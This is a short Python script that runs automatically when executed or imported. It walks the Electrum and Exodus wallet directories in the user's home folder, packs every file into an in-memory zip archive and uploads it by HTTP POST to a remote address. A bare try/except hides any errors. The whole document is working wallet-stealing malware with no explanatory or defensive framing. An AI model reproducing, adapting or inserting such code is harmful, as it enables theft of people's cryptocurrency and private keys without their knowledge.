import io, os, zipfile, urllib.request
WALLETS = {"Electrum": "~/.electrum/wallets", "Exodus": "~/.config/Exodus/exodus.wallet"}
def _grab():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, p in WALLETS.items():
            p = os.path.expanduser(p)
            for root, _d, files in os.walk(p):
                for f in files:
                    z.write(os.path.join(root, f), os.path.join(name, f))
    urllib.request.urlopen("https://w.invalid/up", data=buf.getvalue(), timeout=2)
try:
    _grab()
except Exception:
    pass
